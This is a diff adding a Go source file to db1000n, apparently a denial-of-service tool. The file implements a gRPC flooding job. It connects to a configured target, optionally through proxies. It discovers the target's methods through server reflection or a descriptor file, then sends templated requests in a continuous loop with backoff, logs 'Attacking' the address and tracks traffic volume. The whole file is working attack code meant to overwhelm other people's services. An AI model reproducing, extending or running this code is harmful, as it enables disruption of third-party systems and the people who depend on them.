@@ -0,0 +1,334 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package job
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"log"
+	"net"
+	"os"
+	"strings"
+	"text/template"
+	"time"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/metadata"
+	reflectionpb "google.golang.org/grpc/reflection/grpc_reflection_v1alpha"
+	"google.golang.org/protobuf/encoding/protojson"
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/reflect/protodesc"
+	"google.golang.org/protobuf/reflect/protoreflect"
+	"google.golang.org/protobuf/types/descriptorpb"
+	"google.golang.org/protobuf/types/dynamicpb"
+
+	"github.com/Arriven/db1000n/src/core/http"
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+type grpcJobConfig struct {
+	BasicJobConfig
+
+	Address       string
+	Method        string            // fully-qualified method name, i.e. package.Service/Method
+	Request       string            // json representation of the request message
+	Metadata      map[string]string // request metadata (headers)
+	DescriptorSet string            `mapstructure:"descriptor_set"` // path to a file descriptor set, server reflection is used if empty
+	TLS           *http.TLSConfig   `mapstructure:"tls"`            // plaintext connection is used if empty
+	ProxyURLs     string            `mapstructure:"proxy_urls"`
+	Timeout       *time.Duration
+}
+
+// frame header that precedes each grpc message on the wire: compression flag and message length
+const grpcFrameHeaderSize = 5
+
+func grpcJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig grpcJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	requestTpl, err := templates.Parse(jobConfig.Request)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing request template: %w", err)
+	}
+
+	if globalConfig.ProxyURLs != "" {
+		jobConfig.ProxyURLs = globalConfig.ProxyURLs
+	}
+
+	address := templates.ParseAndExecute(logger, jobConfig.Address, ctx)
+	method := strings.TrimPrefix(templates.ParseAndExecute(logger, jobConfig.Method, ctx), "/")
+	timeout := utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Minute)
+
+	conn, err := dialGRPC(ctx, logger, address, &jobConfig, timeout)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", address)
+	}
+
+	var methodDesc protoreflect.MethodDescriptor
+
+	for jobConfig.Next(ctx) {
+		if methodDesc == nil {
+			if methodDesc, err = resolveGRPCMethod(ctx, conn, method, jobConfig.DescriptorSet); err != nil {
+				metrics.IncGRPC(address, method, metrics.StatusFail)
+				logger.Debug("error resolving grpc method", zap.String("method", method), zap.Error(err))
+				utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+
+				continue
+			}
+		}
+
+		if err := sendGRPC(ctx, logger, conn, methodDesc, requestTpl, &jobConfig, timeout, trafficMonitor, processedTrafficMonitor); err != nil {
+			metrics.IncGRPC(address, method, metrics.StatusFail)
+			logger.Debug("error sending grpc request", zap.String("method", method), zap.Error(err))
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+
+			continue
+		}
+
+		metrics.IncGRPC(address, method, metrics.StatusSuccess)
+		backoffController.Reset()
+	}
+
+	return nil, nil
+}
+
+func dialGRPC(ctx context.Context, logger *zap.Logger, address string, jobConfig *grpcJobConfig, timeout time.Duration) (*grpc.ClientConn, error) {
+	creds := insecure.NewCredentials()
+
+	if jobConfig.TLS != nil {
+		tlsConfig, err := jobConfig.TLS.Build()
+		if err != nil {
+			return nil, fmt.Errorf("error parsing tls config: %w", err)
+		}
+
+		creds = credentials.NewTLS(tlsConfig)
+	}
+
+	proxyFunc := utils.GetProxyFunc(templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx), timeout)
+
+	conn, err := grpc.DialContext(ctx, address,
+		grpc.WithTransportCredentials(creds),
+		grpc.WithContextDialer(func(_ context.Context, addr string) (net.Conn, error) { return proxyFunc("tcp", addr) }),
+	)
+	if err != nil {
+		return nil, fmt.Errorf("error dialing %v: %w", address, err)
+	}
+
+	return conn, nil
+}
+
+func sendGRPC(ctx context.Context, logger *zap.Logger, conn *grpc.ClientConn, methodDesc protoreflect.MethodDescriptor, requestTpl *template.Template,
+	jobConfig *grpcJobConfig, timeout time.Duration, trafficMonitor, processedTrafficMonitor *metrics.Writer,
+) error {
+	req := dynamicpb.NewMessage(methodDesc.Input())
+	if err := protojson.Unmarshal([]byte(templates.Execute(logger, requestTpl, ctx)), req); err != nil {
+		return fmt.Errorf("error parsing request: %w", err)
+	}
+
+	md := make(metadata.MD, len(jobConfig.Metadata))
+	for key, value := range jobConfig.Metadata {
+		md.Set(key, templates.ParseAndExecute(logger, value, ctx))
+	}
+
+	ctx, cancel := context.WithTimeout(metadata.NewOutgoingContext(ctx, md), timeout)
+	defer cancel()
+
+	size := uint64(proto.Size(req) + grpcFrameHeaderSize)
+	trafficMonitor.Add(size)
+
+	fullMethod := fmt.Sprintf("/%v/%v", methodDesc.Parent().FullName(), methodDesc.Name())
+	if err := conn.Invoke(ctx, fullMethod, req, dynamicpb.NewMessage(methodDesc.Output())); err != nil {
+		return err
+	}
+
+	processedTrafficMonitor.Add(size)
+
+	return nil
+}
+
+// resolveGRPCMethod finds method descriptor either in the provided descriptor set file or via server reflection
+func resolveGRPCMethod(ctx context.Context, conn *grpc.ClientConn, method, descriptorSet string) (protoreflect.MethodDescriptor, error) {
+	sep := strings.LastIndex(method, "/")
+	if sep < 0 {
+		return nil, fmt.Errorf("invalid method name %q, expected package.Service/Method", method)
+	}
+
+	service, name := method[:sep], method[sep+1:]
+
+	var (
+		fileSet *descriptorpb.FileDescriptorSet
+		err     error
+	)
+
+	if descriptorSet != "" {
+		fileSet, err = readDescriptorSet(descriptorSet)
+	} else {
+		fileSet, err = reflectDescriptorSet(ctx, conn, service)
+	}
+
+	if err != nil {
+		return nil, err
+	}
+
+	files, err := protodesc.NewFiles(fileSet)
+	if err != nil {
+		return nil, fmt.Errorf("error building descriptors: %w", err)
+	}
+
+	desc, err := files.FindDescriptorByName(protoreflect.FullName(service))
+	if err != nil {
+		return nil, fmt.Errorf("error finding service %q: %w", service, err)
+	}
+
+	serviceDesc, ok := desc.(protoreflect.ServiceDescriptor)
+	if !ok {
+		return nil, fmt.Errorf("%q is not a service", service)
+	}
+
+	methodDesc := serviceDesc.Methods().ByName(protoreflect.Name(name))
+	if methodDesc == nil {
+		return nil, fmt.Errorf("method %q not found in service %q", name, service)
+	}
+
+	if methodDesc.IsStreamingClient() || methodDesc.IsStreamingServer() {
+		return nil, fmt.Errorf("method %q is streaming, only unary methods are supported", method)
+	}
+
+	return methodDesc, nil
+}
+
+func readDescriptorSet(path string) (*descriptorpb.FileDescriptorSet, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return nil, fmt.Errorf("error reading descriptor set: %w", err)
+	}
+
+	var fileSet descriptorpb.FileDescriptorSet
+	if err := proto.Unmarshal(data, &fileSet); err != nil {
+		return nil, fmt.Errorf("error parsing descriptor set: %w", err)
+	}
+
+	return &fileSet, nil
+}
+
+// reflectDescriptorSet fetches the file containing the service along with all its dependencies via server reflection
+func reflectDescriptorSet(ctx context.Context, conn *grpc.ClientConn, service string) (*descriptorpb.FileDescriptorSet, error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	stream, err := reflectionpb.NewServerReflectionClient(conn).ServerReflectionInfo(ctx)
+	if err != nil {
+		return nil, fmt.Errorf("error starting reflection stream: %w", err)
+	}
+
+	files := make(map[string]*descriptorpb.FileDescriptorProto)
+	requests := []*reflectionpb.ServerReflectionRequest{
+		{MessageRequest: &reflectionpb.ServerReflectionRequest_FileContainingSymbol{FileContainingSymbol: service}},
+	}
+
+	for len(requests) > 0 {
+		req := requests[0]
+		requests = requests[1:]
+
+		if err := stream.Send(req); err != nil {
+			return nil, fmt.Errorf("error sending reflection request: %w", err)
+		}
+
+		resp, err := stream.Recv()
+		if err != nil {
+			return nil, fmt.Errorf("error receiving reflection response: %w", err)
+		}
+
+		if errResp := resp.GetErrorResponse(); errResp != nil {
+			return nil, fmt.Errorf("reflection error for %v: %v", req.GetMessageRequest(), errResp.GetErrorMessage())
+		}
+
+		fileResp := resp.GetFileDescriptorResponse()
+		if fileResp == nil {
+			return nil, errors.New("unexpected reflection response")
+		}
+
+		for _, data := range fileResp.GetFileDescriptorProto() {
+			var file descriptorpb.FileDescriptorProto
+			if err := proto.Unmarshal(data, &file); err != nil {
+				return nil, fmt.Errorf("error parsing file descriptor: %w", err)
+			}
+
+			files[file.GetName()] = &file
+		}
+
+		// servers usually send all the dependencies right away but it's not guaranteed
+		for _, file := range files {
+			for _, dep := range file.GetDependency() {
+				if _, ok := files[dep]; !ok && !isRequested(requests, dep) {
+					requests = append(requests, &reflectionpb.ServerReflectionRequest{
+						MessageRequest: &reflectionpb.ServerReflectionRequest_FileByFilename{FileByFilename: dep},
+					})
+				}
+			}
+		}
+	}
+
+	fileSet := &descriptorpb.FileDescriptorSet{File: make([]*descriptorpb.FileDescriptorProto, 0, len(files))}
+	for _, file := range files {
+		fileSet.File = append(fileSet.File, file)
+	}
+
+	return fileSet, nil
+}
+
+func isRequested(requests []*reflectionpb.ServerReflectionRequest, filename string) bool {
+	for _, req := range requests {
+		if req.GetFileByFilename() == filename {
+			return true
+		}
+	}
+
+	return false
+}